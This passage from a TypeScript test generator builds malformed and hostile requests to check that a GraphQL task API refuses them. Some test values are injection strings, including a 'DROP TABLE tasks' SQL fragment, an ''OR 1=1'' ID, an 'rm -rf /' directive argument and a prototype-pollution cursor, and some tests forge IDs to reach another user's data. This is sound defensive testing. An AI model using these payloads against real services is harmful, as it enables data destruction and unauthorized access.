    if (value === null || value === undefined) return;
    if (isList(type)) {
      if (Array.isArray(value)) value.forEach((item, index) => walk(item, itemOf(type), [...path, index]));
      return;
    }
    const fields = INPUTS[named(type)];
    if (fields && typeof value === 'object') {
      for (const [key, fieldType] of Object.entries(fields)) {
        if (key in (value as Record<string, unknown>)) walk((value as Record<string, unknown>)[key], fieldType, [...path, key]);
      }
    }
  };
  for (const [name, type] of Object.entries(types)) if (name in vars) walk(vars[name], type, [name]);
  return out;
}

function clone<T>(value: T): T {
  return JSON.parse(JSON.stringify(value)) as T;
}

function setAt(vars: Record<string, unknown>, path: Path, value: unknown): Record<string, unknown> {
  const copy = clone(vars);
  let node: Record<string | number, unknown> = copy;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  node[path[path.length - 1]!] = value;
  return copy;
}

function deleteAt(vars: Record<string, unknown>, path: Path): Record<string, unknown> {
  const copy = clone(vars);
  let node: Record<string | number, unknown> = copy;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  delete node[path[path.length - 1]!];
  return copy;
}

const pathText = (path: Path) => path.join('.');

// ---------------------------------------------------------------------------------------------------
// Documents.

interface DocOptions {
  selection?: string;
  extraArgs?: string;
  directives?: string;
  aliases?: number;
  extraDefs?: string;
  rootExtra?: string;
  fragments?: string;
  operationName?: string;
  vars?: Record<string, string>;
}

function withArgs(call: string, extra: string): string {
  return call.endsWith(')') ? `${call.slice(0, -1)}, ${extra})` : `${call}(${extra})`;
}

function documentOf(op: OpSpec, options: DocOptions = {}): string {
  const vars = options.vars ?? op.vars;
  const defs = Object.entries(vars).map(([name, type]) => `$${name}: ${graphqlType(type)}`);
  if (options.extraDefs) defs.push(options.extraDefs);
  const defsText = defs.length > 0 ? `(${defs.join(', ')})` : '';
  const call = options.extraArgs ? withArgs(op.call, options.extraArgs) : op.call;
  const field = `${call}${options.directives ? ` ${options.directives}` : ''} ${options.selection ?? op.selection}`.trim();
  const fields = options.aliases ? Array.from({ length: options.aliases }, (_, i) => `a${i}: ${field}`).join('\n') : field;
  return `${op.operation} ${options.operationName ?? 'Hostile'}${defsText} { ${fields} ${options.rootExtra ?? ''} }${options.fragments ? `\n${options.fragments}` : ''}`;
}

/** A selection `depth` levels deep below a field returning `returns`, through real schema fields. */
function deepSelection(returns: Returns, depth: number): string {
  // Task -> tags (Tag) -> tasks (Connection) -> edges -> node (Task) -> ...
  const fromTask = (left: number): string => (left <= 0 ? '{ id }' : `{ id tags ${fromTag(left - 1)} }`);
  const fromTag = (left: number): string => (left <= 0 ? '{ id }' : `{ id tasks(first: 1) ${fromConnection(left - 1)} }`);
  const fromConnection = (left: number): string => (left <= 0 ? '{ totalCount }' : `{ edges ${fromEdge(left - 1)} }`);
  const fromEdge = (left: number): string => (left <= 0 ? '{ cursor }' : `{ node ${fromTask(left - 1)} }`);
  switch (returns) {
    case 'Task':
      return fromTask(depth);
    case 'Tag':
      return fromTag(depth);
    case 'List':
      return `{ id tasks(first: 1) ${fromConnection(depth - 1)} }`;
    case 'User':
      return `{ id tasks(first: 1) ${fromConnection(depth - 1)} }`;
    case 'Connection':
      return fromConnection(depth);
    case 'Payload':
      return `{ task ${fromTask(depth - 1)} }`;
    case 'Auth':
      return `{ token user { id tasks(first: 1) ${fromConnection(depth - 2)} } }`;
    case 'Node':
      return `{ id ... on Task ${fromTask(depth)} }`;
    // A webhook has no nested objects: its deep selections name fields it does not have.
    case 'Webhook':
    case 'Scalar': {
      let text = '{ leaf }';
      for (let i = 0; i < depth; i += 1) text = `{ level${i} ${text} }`;
      return text;
    }
  }
}

function body(document: string, variables: unknown, extra: Record<string, unknown> = {}): string {
  return JSON.stringify({ query: document, variables, ...extra });
}

// ---------------------------------------------------------------------------------------------------
// Expectations.

/** The contract's answer to a string of `kind`: valid, invalid, unknown (either is acceptable). */
function stringVerdict(kind: string, value: string): Verdict {
  const trimmed = value.trim();
  if (value.includes('\u0000')) {
    // PostgreSQL cannot store NUL in text: a clean refusal is the only right answer for stored text.
    if (['Title', 'Description', 'Key', 'TagName', 'ListName', 'Name'].includes(kind)) return 'invalid';
    return ['TaskId', 'TagId', 'ListId', 'WebhookId', 'Email', 'Color', 'TimeZone', 'Cursor', 'Url', 'EventName'].includes(kind) ? 'invalid' : 'unknown';
  }
  switch (kind) {
    case 'Title':
      return value.length <= 500 && trimmed.length > 0 ? 'valid' : 'invalid';
    case 'Description':
      return value.length <= 20_000 ? 'valid' : 'invalid';
    case 'Key':
      return value.length >= 1 && value.length <= 128 ? 'valid' : 'invalid';
    case 'TagName':
      return trimmed.length >= 1 && trimmed.length <= 64 ? 'valid' : 'invalid';
    case 'ListName':
      return trimmed.length >= 1 && trimmed.length <= 100 ? 'valid' : 'invalid';
    case 'Name':
      return trimmed.length <= 200 ? 'valid' : 'invalid';
    case 'Password':
      return value.length >= 8 && value.length <= 256 ? 'valid' : 'invalid';
    case 'Secret':
      return value.length <= 256 ? 'valid' : 'invalid';
    case 'Search':
      return trimmed.length <= 200 ? 'valid' : 'invalid';
    case 'NodeId':
      return 'unknown';
    default:
      // Email, Color, TimeZone, RRule, Cursor, Url, EventName, ids: arbitrary text never fits.
      return 'invalid';
  }
}

function expectationOf(op: OpSpec, verdict: Verdict, target: Target): Expectation {
  if (verdict === 'invalid') return 'failure';
  if (op.operation === 'subscription') return 'either';
  if (op.operation === 'query') return verdict === 'unknown' ? 'either' : 'success';
  const writes = op.writes === 'always' || (op.writes === 'sandbox' && target === 'sandbox');
  if (!writes) return 'failure';
  return verdict === 'valid' ? 'success' : verdict === 'foreign' ? 'failure' : 'either';
}

// ---------------------------------------------------------------------------------------------------
// The generator.

interface Draft {
  category: string;
  label: string;
  verdict: Verdict;
  /** Variables (ids still placeholders) when the request is an ordinary GraphQL POST. */
  vars?: Record<string, unknown>;
  document?: string;
  /** A fully custom request (placeholders in strings are still resolved). */
  raw?: { method?: string; path?: string; headers?: Record<string, string>; body?: string | Uint8Array };
  headers?: Record<string, string>;
  /** Extra top-level body fields (operationName, extensions). */
  extra?: Record<string, unknown>;
  /** Overrides the expectation that follows from the verdict. */
  expect?: Expectation;
  /** Overrides the target the placeholders resolve to (the decoy: the attacker's own objects, which must not change). */
  target?: Target;
  stream?: boolean;
  status?: number;
  /** For valid writes: the stored values to expect (trimmed as the contract says). */
  stored?: Record<string, unknown>;
}

/** n counts every call of the mutator (variants rotate across operations); k counts calls per operation. */
type Mutator = (op: OpSpec, rng: Rng, n: number, env: Env, k: number) => Draft | null;

interface Env {
  ctx: HostileContext;
  token: string;
}

function wrongValueFor(type: string, rng: Rng): unknown {
  if (isList(type)) return rng.pick<unknown>([{ not: 'a list' }, [[['nested']]], [{}], 1.5, true]);
  const name = named(type);
  if (INPUTS[name]) return rng.pick<unknown>(['a string', 42, true, [1, 2, 3], 1.5]);
  if (ENUMS[name]) return rng.pick<unknown>([7, true, { v: 1 }, 1.5]);
  switch (name) {
    case 'Boolean':
      return rng.pick<unknown>(['true', 1, 0, {}, 'yes']);
    case 'PageSize':
    case 'Version':
      return rng.pick<unknown>(['10', 1.5, true, {}, '1e3']);
    case 'DateTime':
      return rng.pick<unknown>([0, 1_700_000_000_000, true, {}, 1.5]);
    default:
      if (ID_KINDS.has(name)) return rng.pick<unknown>([true, 1.5, { id: 1 }, [[1]], false]);
      return rng.pick<unknown>([42, true, { a: 1 }, 1.5, -1, ['nested']]);
  }
}

function stringLeaves(leaves: Leaf[]): Leaf[] {
  return leaves.filter((leaf) => !isList(leaf.type) && STRING_KINDS.has(named(leaf.type)));
}

/** Puts a hostile string into the k-th string leaf (so every string field gets one); the verdict follows from the field's kind. */
function withString(op: OpSpec, k: number, value: (leaf: Leaf) => string, category: string, label: string): Draft | null {
  const base = op.base(0);
  const leaves = stringLeaves(leavesOf(base, op.vars));
  if (leaves.length === 0) return null;
  const leaf = leaves[k % leaves.length]!;
  const text = value(leaf);
  const vars = setAt(base, leaf.path, text);
  return { category, label: `${label} in ${pathText(leaf.path)}`, verdict: stringVerdict(named(leaf.type), text), vars };
}

const uniqueSuffix = (n: number) => ` #${n}`;

const mutators: Record<string, { perOp: number; mutate: Mutator }> = {
  'wrong-type': {
    perOp: 8,
    mutate: (op, rng) => {
      const base = op.base(0);
      const leaves = leavesOf(base, op.vars);
      if (leaves.length === 0) {
        // No variables: give the field an argument of the wrong type.
        return { category: 'wrong-type', label: 'argument on an argument-less field', verdict: 'invalid', document: documentOf(op, { extraArgs: 'first: "ten"' }), vars: {} };
      }
      const leaf = rng.pick(leaves);
      const value = wrongValueFor(leaf.type, rng);
      return { category: 'wrong-type', label: `${JSON.stringify(value)} for ${pathText(leaf.path)}: ${graphqlType(leaf.type)}`, verdict: 'invalid', vars: setAt(base, leaf.path, value) };
    },
  },
  'missing-required': {
    perOp: 3,
    mutate: (op, rng) => {
      const base = op.base(0);
      const required = leavesOf(base, op.vars).filter((leaf) => isNonNull(leaf.type) && typeof leaf.path[leaf.path.length - 1] === 'string');
      if (required.length === 0) {
        return {
          category: 'missing-required',
          label: 'required variable never provided',
          verdict: 'invalid',
          document: documentOf(op, { extraDefs: '$needed: Int!', rootExtra: '__typename @skip(if: false)' }),
          vars: base,
        };
      }
      const leaf = rng.pick(required);
      return { category: 'missing-required', label: `no ${pathText(leaf.path)}`, verdict: 'invalid', vars: deleteAt(base, leaf.path) };
    },
  },
  'null-for-non-null': {
    perOp: 4,
    mutate: (op, rng) => {
      const base = op.base(0);
      const nonNull = leavesOf(base, op.vars).filter((leaf) => isNonNull(leaf.type));
      if (nonNull.length === 0) {
        if ('orderBy' in op.vars) return { category: 'null-for-non-null', label: 'orderBy: [null]', verdict: 'invalid', vars: { ...base, orderBy: [null] } };
        return {
          category: 'null-for-non-null',
          label: 'null for a non-null variable',
          verdict: 'invalid',
          document: documentOf(op, { extraDefs: '$flag: Boolean!', rootExtra: '__typename @include(if: $flag)' }),
          vars: { ...base, flag: null },
        };
      }
      const leaf = rng.pick(nonNull);
      return { category: 'null-for-non-null', label: `null for ${pathText(leaf.path)}`, verdict: 'invalid', vars: setAt(base, leaf.path, null) };
    },
  },
  'huge-string': {
    perOp: 4,
    mutate: (op, rng, _n, _env, k) => {
      const huge = k === 0 ? HUGE_1M : HUGE_100K;
      const size = huge.length === HUGE_1M.length ? '1 MB' : '100 KB';
      const draft = withString(op, k, () => huge, 'huge-string', `${size} string`);
      if (draft) return draft;
      // No string argument: a huge operation name, or a huge unknown argument.
      return rng.chance(0.5)
        ? { category: 'huge-string', label: `${size} operation name`, verdict: 'invalid', vars: op.base(0), extra: { operationName: huge } }
        : { category: 'huge-string', label: `${size} string argument that does not exist`, verdict: 'invalid', document: documentOf(op, { extraArgs: `junk: "${HUGE_100K}"` }), vars: op.base(0) };
    },
  },
  'huge-list': {
    perOp: 2,
    mutate: (op, rng, _n, _env, k) => {
      // One list of 10,000 per operation, and one of 1,000.
      const size = k === 0 ? 10_000 : 1_000;
      const count = size.toLocaleString('en');
      const base = op.base(0);
      const lists = leavesOf(base, op.vars).filter((leaf) => isList(leaf.type));
      if (lists.length === 0) {
        const leaves = leavesOf(base, op.vars);
        if (leaves.length === 0) return { category: 'huge-list', label: `${count} list literal for an unknown argument`, verdict: 'invalid', document: documentOf(op, { extraArgs: `junk: [${Array(size).fill('1').join(',')}]` }) };
        const leaf = rng.pick(leaves);
        return { category: 'huge-list', label: `${count}-element list for ${pathText(leaf.path)}`, verdict: 'invalid', vars: setAt(base, leaf.path, Array.from({ length: size }, (_, i) => `item ${i}`)) };
      }
      const leaf = rng.pick(lists);
      const item = named(leaf.type);
      const make = (i: number): unknown => {
        if (item === 'TagId') return globalId('Tag', rng.uuid());
        if (item === 'ListId') return globalId('List', rng.uuid());
        if (item === 'TaskId' && leaf.path.includes('ids')) return globalId('Task', rng.uuid());
        if (item === 'TaskId' || item === 'NodeId') return globalId(i % 2 ? 'Task' : 'Tag', rng.uuid());
        if (item === 'Priority') return ENUMS.Priority![i % 5];
        if (item === 'TaskOrder') return { field: ENUMS.TaskOrderField![i % ENUMS.TaskOrderField!.length], direction: 'ASC' };
        return `x${i}`;
      };
      const list = Array.from({ length: size }, (_, i) => make(i));
      // Documented limits: 50 tags on a task, 100 ids in nodes, 500 ids in a bulk change, 5 order
      // keys; filter lists have none.
      const limited = !['tasks', 'me', 'tag', 'tags', 'list', 'lists', 'inbox'].includes(op.field);
      const verdict: Verdict = limited || item === 'TaskOrder' ? 'invalid' : 'unknown';
      return { category: 'huge-list', label: `${count} ${item} in ${pathText(leaf.path)}`, verdict, vars: setAt(base, leaf.path, list) };
    },
  },
  'deep-nesting': {
    perOp: 4,
    mutate: (op, rng, n) => {
      const base = op.base(0);
      switch (n % 4) {
        case 0:
          return { category: 'deep-nesting', label: 'selection 50 levels deep', verdict: 'invalid', document: documentOf(op, { selection: deepSelection(op.returns, 50) }), vars: base };
        case 1:
          return { category: 'deep-nesting', label: 'selection 20 levels deep (limit 16)', verdict: 'invalid', document: documentOf(op, { selection: deepSelection(op.returns, 20) }), vars: base };
        case 2: {
          const depth = rng.pick([10_000, 100_000]);
          const deep = rng.chance(0.5) ? `${'['.repeat(depth)}"deep"${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
          const names = Object.keys(op.vars);
          const name = names.length > 0 ? rng.pick(names) : 'undeclared';
          const text = `{"query":${JSON.stringify(documentOf(op))},"variables":{"${name}":${deep}}}`;
          // A declared variable cannot hold it; an undeclared one is ignored (the subscription has none).
          return { category: 'deep-nesting', label: `variable $${name} nested ${depth} deep`, verdict: names.length > 0 ? 'invalid' : 'unknown', raw: { body: text } };
        }
        default: {
          const depth = rng.pick([600, 10_000]);
          const query = `${op.operation} { ${'a { '.repeat(depth)}b${' }'.repeat(depth)} }`;
          return { category: 'deep-nesting', label: `query text nested ${depth} deep`, verdict: 'invalid', document: query, vars: base };
        }
      }
    },
  },
  'fragment-cycle': {
    perOp: 2,
    mutate: (op, _rng, n) => {
      const root = op.operation === 'query' ? 'Query' : op.operation === 'mutation' ? 'Mutation' : 'Subscription';
      const fragments =
        n % 2 === 0
          ? `fragment A on ${root} { __typename ...B } fragment B on ${root} { __typename ...A }`
          : `fragment A on ${root} { __typename ...A }`;
      return { category: 'fragment-cycle', label: n % 2 === 0 ? 'A -> B -> A' : 'A -> A', verdict: 'invalid', document: documentOf(op, { rootExtra: '...A', fragments }), vars: op.base(0) };
    },
  },
  'alias-bomb': {
    perOp: 2,
    mutate: (op, _rng, n) => {
      const base = op.base(0);
      if (n % 2 === 0 || op.operation === 'subscription') return { category: 'alias-bomb', label: '500 aliases of the field', verdict: 'invalid', document: documentOf(op, { aliases: 500 }), vars: base };
      const inner = Array.from({ length: 500 }, (_, i) => `t${i}: __typename`).join(' ');
      const selection = op.returns === 'Scalar' ? '' : `{ ${inner} }`;
      const rootExtra = op.returns === 'Scalar' ? inner : '';
      // Beside a root scalar query, __typename aliases read nothing (armor's alias limit lets __typename
      // through): answering them is as harmless as refusing them.
      const verdict: Verdict = op.operation === 'query' && op.returns === 'Scalar' ? 'unknown' : 'invalid';
      return { category: 'alias-bomb', label: '500 aliases of __typename', verdict, document: documentOf(op, selection ? { selection } : { rootExtra }), vars: base };
    },
  },
  'directive-flood': {
    perOp: 3,
    mutate: (op, _rng, n) => {
      const base = op.base(0);
      switch (n % 3) {
        case 0:
          return { category: 'directive-flood', label: '1,000 @include on the field', verdict: 'invalid', document: documentOf(op, { directives: Array(1_000).fill('@include(if: true)').join(' ') }), vars: base };
        case 1:
          return {
            category: 'directive-flood',
            label: '25 @skip(if: false) across fields',
            verdict: 'invalid',
            document: documentOf(op, { rootExtra: Array.from({ length: 25 }, (_, i) => `d${i}: __typename @skip(if: false)`).join(' ') }),
            vars: base,
          };
        default:
          return { category: 'directive-flood', label: 'unknown directive', verdict: 'invalid', document: documentOf(op, { directives: '@evil(cmd: "rm -rf /")' }), vars: base };
      }
    },
  },
  'invalid-json': {
    perOp: 12,
    mutate: (op, rng, n) => {
      const base = op.base(0);
      const valid = body(documentOf(op), base);
      const document = documentOf(op);
      const variants: [string, string][] = [
        ['truncated', valid.slice(0, 1 + rng.int(valid.length - 1))],
        ['trailing garbage', `${valid}xyz`],
        ['trailing brace', `${valid}}`],
        ['two objects', `${valid}${valid}`],
        ['{"query": 1}', JSON.stringify({ query: 1, variables: base })],
        ['{"query": null}', JSON.stringify({ query: null, variables: base })],
        ['query is an object', JSON.stringify({ query: { kind: 'Document' }, variables: base })],
        ['query is a list', JSON.stringify({ query: [document], variables: base })],
        ['{}', '{}'],
        ['null', 'null'],
        ['a string', JSON.stringify(document)],
        ['a number', '42'],
        ['true', 'true'],
        ['empty body', ''],
        ['whitespace', '  \n\t '],
        ['variables is a string', JSON.stringify({ query: document, variables: 'not json' })],
        ['variables is a number', JSON.stringify({ query: document, variables: 5 })],
        ['variables is a list', JSON.stringify({ query: document, variables: [base] })],
        ['operationName is a number', JSON.stringify({ query: document, variables: base, operationName: 5 })],
        ['operationName unknown', JSON.stringify({ query: document, variables: base, operationName: 'NoSuchOperation' })],
        ['extensions is a string', JSON.stringify({ query: document, variables: base, extensions: 'x' })],
        ['persisted query without query', JSON.stringify({ variables: base, extensions: { persistedQuery: { version: 1, sha256Hash: 'ab'.repeat(32) } } })],
        ['single quotes', valid.replace(/"/g, "'")],
        ['comment', `/* hi */${valid}`],
        ['NaN literal', valid.replace(/^\{/, '{"nan": NaN, ')],
        ['trailing comma', valid.replace(/\}$/, ',}')],
        ['raw control character', valid.replace('"query":"', '"query":"\u0001\n')],
        ['duplicate key, last invalid', valid.replace(/\}$/, ',"query":5}')],
        ['no query', JSON.stringify({ variables: base })],
        ['query is empty', JSON.stringify({ query: '', variables: base })],
        ['query is a comment', JSON.stringify({ query: '# nothing', variables: base })],
        ['GraphQL syntax error', JSON.stringify({ query: document.replace('{', '{{'), variables: base })],
      ];
      const [label, text] = variants[n % variants.length]!;
      return { category: 'invalid-json', label, verdict: 'invalid', raw: { body: text } };
    },
  },
  batch: {
    perOp: 3,
    mutate: (op, rng, n) => {
      const base = op.base(0);
      const one = { query: documentOf(op), variables: base };
      switch (n % 3) {
        case 0:
          return { category: 'batch', label: 'array of 1,000 operations', verdict: 'invalid', raw: { body: JSON.stringify(Array(1_000).fill(one)) } };
        case 1:
          return { category: 'batch', label: 'array of 11 operations (limit 10)', verdict: 'invalid', raw: { body: JSON.stringify(Array(11).fill(one)) } };
        default:
          return rng.chance(0.5)
            ? { category: 'batch', label: 'array of non-objects', verdict: 'invalid', raw: { body: JSON.stringify([1, 'two', null, [one]]) } }
            : { category: 'batch', label: 'empty array', verdict: 'unknown', raw: { body: '[]' }, expect: 'either' };
      }
    },
  },
  'invalid-utf8': {
    perOp: 4,
    mutate: (op, rng, n) => {
      const base = op.base(0);
      const sequences: [string, number[]][] = [
        ['C3 28', [0xc3, 0x28]],
        ['FF', [0xff]],
        ['ED A0 80 (encoded surrogate)', [0xed, 0xa0, 0x80]],
        ['C0 AF (overlong)', [0xc0, 0xaf]],
        ['F8 88 80 80 80', [0xf8, 0x88, 0x80, 0x80, 0x80]],
        ['lone continuation 80', [0x80]],
      ];
      const [name, bytes] = rng.pick(sequences);
      const encode = (text: string, marker: string) => {
        const [before, after] = text.split(marker) as [string, string];
        return new Uint8Array([...Buffer.from(before, 'utf8'), ...bytes, ...Buffer.from(after, 'utf8')]);
      };
      const where = n % 4;
      if (where === 0 || where === 1) {
        // Inside a string value: decoded leniently (U+FFFD) or refused; either way not a crash.
        const leaves = stringLeaves(leavesOf(base, op.vars));
        if (leaves.length > 0) {
          const leaf = rng.pick(leaves);
          const kind = named(leaf.type);
          const current = String(leavesValue(base, leaf.path) ?? 'x');
          const text = body(documentOf(op), setAt(base, leaf.path, `@@BYTES@@${current}`));
          const verdict = stringVerdict(kind, `${current}\uFFFD`) === 'invalid' ? 'invalid' : 'unknown';
          return { category: 'invalid-utf8', label: `${name} inside ${pathText(leaf.path)}`, verdict, raw: { body: encode(text, '@@BYTES@@') } };
        }
      }
      if (where === 2) {
        const text = body(`${op.operation} @@BYTES@@ { ${op.call} ${op.selection} }`, base);
        return { category: 'invalid-utf8', label: `${name} in the query text`, verdict: 'invalid', raw: { body: encode(text, '@@BYTES@@') } };
      }
      const text = body(documentOf(op), base).replace(/^\{/, '{@@BYTES@@');
      return { category: 'invalid-utf8', label: `${name} between JSON tokens`, verdict: 'invalid', raw: { body: encode(text, '@@BYTES@@') } };
    },
  },
  'lone-surrogate': {
    perOp: 3,
    mutate: (op, rng, n, _env, k) => {
      const surrogate = rng.pick(['\ud800', '\udfff', '\udbff\u0041', 'a\ud83d']);
      const draft = withString(op, k, (leaf) => `${surrogate}${String(leavesValue(op.base(0), leaf.path) ?? 'x')}`, 'lone-surrogate', 'lone surrogate');
      if (draft) {
        // JSON.stringify escapes lone surrogates as \udXXX; the server sees a string that is not Unicode.
        const verdict: Verdict = draft.verdict === 'invalid' ? 'invalid' : 'unknown';
        return { ...draft, verdict };
      }
      // In the operation name, raw in the query text.
      return n % 2 === 0
        ? { category: 'lone-surrogate', label: 'lone surrogate in the query text', verdict: 'invalid', document: `${op.operation} Bad\ud800 { ${op.call} ${op.selection} }`, vars: op.base(0) }
        : { category: 'lone-surrogate', label: 'lone surrogate in a string literal', verdict: 'invalid', document: documentOf(op, { extraArgs: 'junk: "\ud800"' }), vars: op.base(0) };
    },
  },
  'nul-byte': {
    perOp: 6,
    mutate: (op, rng, n, _env, k) => {
      const draft = withString(
        op,
        k,
        (leaf) => {
          const current = String(leavesValue(op.base(0), leaf.path) ?? 'x');
          return rng.pick([`${current}\u0000`, `\u0000${current}`, `a\u0000b ${n}`, `${current}\u0000'; DROP TABLE tasks; --`]);
        },
        'nul-byte',
        'NUL byte',
      );
      if (draft && k < 5) return draft;
      return { category: 'nul-byte', label: 'NUL in the query text', verdict: 'invalid', document: `${documentOf(op)}\u0000`, vars: op.base(0) };
    },
  },
  'sql-string': {
    perOp: 7,
    mutate: (op, rng, n, _env, k) => withString(op, k, () => `${rng.pick(SQL_STRINGS)}${uniqueSuffix(n)}`, 'sql-string', 'SQL-looking string'),
  },
  'script-string': {
    perOp: 7,
    mutate: (op, rng, n, _env, k) => withString(op, k, () => `${rng.pick(SCRIPT_STRINGS)}${uniqueSuffix(n)}`, 'script-string', 'script-looking string'),
  },
  'forged-id': {
    perOp: 9,
    mutate: (op, rng, n, env) => {
      const base = op.base(0);
      const leaves = leavesOf(base, op.vars).filter((leaf) => ID_KINDS.has(named(leaf.type)));
      if (leaves.length === 0) return null;
      const leaf = rng.pick(leaves);
      const kind = named(leaf.type);
      const { victim } = env.ctx;
      const victimTask = rng.pick(victim.taskIds);
      const victimTag = rng.pick(victim.tagIds);
      const victimList = rng.pick(victim.listIds);
      const victimReminder = rng.pick(victim.reminderIds);
      const victimWebhook = rng.pick(victim.webhookIds);
      const own = kind === 'TagId' ? victimTag : kind === 'ListId' ? victimList : kind === 'ReminderId' ? victimReminder : kind === 'WebhookId' ? victimWebhook : victimTask;
      const ownType = kind === 'TagId' ? 'Tag' : kind === 'ListId' ? 'List' : kind === 'ReminderId' ? 'Reminder' : kind === 'WebhookId' ? 'Webhook' : 'Task';
      const wrongType = kind === 'TagId' ? victimTask : kind === 'ListId' ? victimTask : kind === 'ReminderId' ? victimTask : kind === 'WebhookId' ? victimTask : victimTag;
      // Where the contract ignores a missing id (lenientIds), another user's id is ignored the same way.
      const foreign: Verdict = op.lenientIds?.some((key) => leaf.path.includes(key)) ? 'unknown' : 'foreign';
      const variants: [string, string, Verdict][] = [
        ['victim id', own, foreign],
        ['victim user id', victim.userId, kind === 'NodeId' ? 'foreign' : 'invalid'],
        ['double-encoded user id', globalId('User', victim.userId), kind === 'NodeId' ? 'unknown' : 'invalid'],
        ['victim id of another type', wrongType, kind === 'NodeId' ? 'foreign' : 'invalid'],
        ['victim id, upper-case uuid', globalId(ownType, rawIdOf(own).toUpperCase()), foreign],
        ['victim id, base64url without padding', b64url(`${ownType}:${rawIdOf(own)}`), 'unknown'],
        ['missing uuid', globalId(ownType, '00000000-0000-4000-8000-000000000000'), foreign],
        [`${ownType}:not-a-uuid`, globalId(ownType, 'not-a-uuid'), kind === 'NodeId' ? 'unknown' : 'invalid'],
        ['raw uuid, not a global id', rawIdOf(own), kind === 'NodeId' ? 'unknown' : 'invalid'],
        ['type:uuid not base64', `${ownType}:${rawIdOf(own)}`, kind === 'NodeId' ? 'unknown' : 'invalid'],
        ['random base64', Buffer.from(Array.from({ length: 24 }, () => rng.int(256))).toString('base64'), kind === 'NodeId' ? 'unknown' : 'invalid'],
        ['empty string', '', kind === 'NodeId' ? 'unknown' : 'invalid'],
        ['SQL in the id', globalId(ownType, `${rawIdOf(own)}' OR '1'='1`), kind === 'NodeId' ? 'unknown' : 'invalid'],
        ['uuid with a suffix', globalId(ownType, `${rawIdOf(own)}:extra`), kind === 'NodeId' ? 'unknown' : 'invalid'],
        ['NUL after the uuid', globalId(ownType, `${rawIdOf(own)}\u0000`), kind === 'NodeId' ? 'unknown' : 'invalid'],
        ['10 KB id', globalId(ownType, 'f'.repeat(10_000)), kind === 'NodeId' ? 'unknown' : 'invalid'],
        ['unknown type', globalId('Admin', rawIdOf(own)), kind === 'NodeId' ? 'unknown' : 'invalid'],
        ['padding only', '====', kind === 'NodeId' ? 'unknown' : 'invalid'],
        ['not base64 at all', '!!!***', kind === 'NodeId' ? 'unknown' : 'invalid'],
      ];
      const [label, forged, verdict] = variants[n % variants.length]!;
      const key = leaf.path[leaf.path.length - 1] as string;
      const alone = op.oneOf?.includes(key)
        ? op.oneOf.filter((other) => other !== key).reduce((vars, other) => setAt(vars, [...leaf.path.slice(0, -1), other], null), base)
        : base;
      // A forged neighbour goes with the attacker's own (decoy) task: with another victim task it could
      // name the moved task itself, a self-placement refused alike for every id, missing or not.
      const neighbour = key === 'afterId' || key === 'beforeId';
      return { category: 'forged-id', label: `${label} for ${pathText(leaf.path)}`, verdict, vars: setAt(alone, leaf.path, forged), ...(neighbour ? { target: 'decoy' as const } : {}) };
    },
  },
  'forged-cursor': {
    // Cursors are opaque base64 of `GPC:` and the task id; forge them from a real one of the attacker.
    perOp: 6,
    mutate: (op, rng, n, env) => {
      const base = op.base(0);
      const cursors = leavesOf(base, op.vars).filter((leaf) => named(leaf.type) === 'Cursor');
      if (cursors.length === 0) return null;
      const leaf = rng.pick(cursors);
      const decoded = Buffer.from(env.ctx.cursor, 'base64').toString('utf8');
      const ownUuid = /[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/.exec(decoded)?.[0] ?? '';
      const forge = (id: string) => b64(decoded.replace(ownUuid, id));
      const variants: [string, string, Verdict][] = [
        ["cursor of the victim's task", forge(rawIdOf(rng.pick(env.ctx.victim.taskIds))), 'unknown'],
        ['cursor of a missing task', forge('00000000-0000-4000-8000-000000000000'), 'unknown'],
        ['cursor holding not-a-uuid', forge('not-a-uuid'), 'invalid'],
        ['cursor holding SQL', forge("' OR 1=1 --"), 'invalid'],
        ['cursor of another namespace', b64(`XYZ:${ownUuid}`), 'invalid'],
        ['cursor of a tag id type', b64(`GPC:${decoded.slice(4, 5)}:${rawIdOf(rng.pick(env.ctx.victim.tagIds))}`), 'unknown'],
        ['cursor with a huge number', b64('GPC:N:1e999'), 'invalid'],
        ['cursor with JSON', b64('GPC:J:{"__proto__":{"admin":true}}'), 'invalid'],
        ['not base64 at all', '!!!cursor!!!', 'invalid'],
        ['empty cursor', '', 'invalid'],
      ];
      const [label, cursor, verdict] = variants[n % variants.length]!;
      // `before` goes with `last`, `after` with `first`: a mismatch is a second, separate mistake.
      const vars = setAt(base, leaf.path, cursor);
      if (leaf.path[0] === 'before') Object.assign(vars, { first: null, last: 5 });
      return { category: 'forged-cursor', label: `${label} in ${pathText(leaf.path)}`, verdict, vars };
    },
  },
  'cross-user': {
    // The attacker's own object combined with the victim's: e.g. the victim's tag on the attacker's
    // task, the attacker's task into the victim's list. k picks one of two per operation.
    perOp: 2,
    mutate: (op, rng, _n, env, k) => {
      const { victim, decoy } = env.ctx;
      const victimTag = rng.pick(victim.tagIds);
      const victimTask = rng.pick(victim.taskIds);
      const victimList = rng.pick(victim.listIds);
      const draft = (label: string, vars: Record<string, unknown>): Draft => ({ category: 'cross-user', label, verdict: 'foreign', vars });
      switch (op.field) {
        case 'setTaskTags':
          return draft("victim's tag on the attacker's task", { taskId: decoy.taskId, tagIds: [decoy.tagId, victimTag] });
        case 'updateTask':
          return draft("victim's tag via updateTask", { input: { id: decoy.taskId, title: 'pwned', tagIds: [victimTag] } });
        case 'createTask':
          return k === 0
            ? draft("victim's tag on a new task", { input: { title: 'pwned', tagIds: [victimTag] } })
            : rng.chance(0.5)
              ? draft("a new task in the victim's list", { input: { title: 'pwned', listId: victimList } })
              : draft("a new task under the victim's task", { input: { title: 'pwned', parentId: victimTask, listId: decoy.listId } });
        case 'tasks':
          return k === 0
            ? draft("victim's tag as filter", { first: 100, filter: { tagIds: [victimTag, decoy.tagId] } })
            : draft("victim's list and task as filter", { first: 100, filter: { listIds: [victimList, decoy.listId], parentId: victimTask } });
        case 'nodes':
          return draft('victim and attacker ids mixed', { ids: [victimTask, decoy.taskId, victimTag, victim.userId, victimList, decoy.listId] });
        case 'node':
          return k === 0 ? draft('victim user', { id: victim.userId }) : draft("victim's list", { id: victimList });
        case 'moveTask':
          return k === 0
            ? draft("attacker's task into the victim's list", { input: { id: decoy.taskId, listId: victimList } })
            : rng.chance(0.5)
              ? draft("attacker's task under the victim's task", { input: { id: decoy.taskId, parentId: victimTask } })
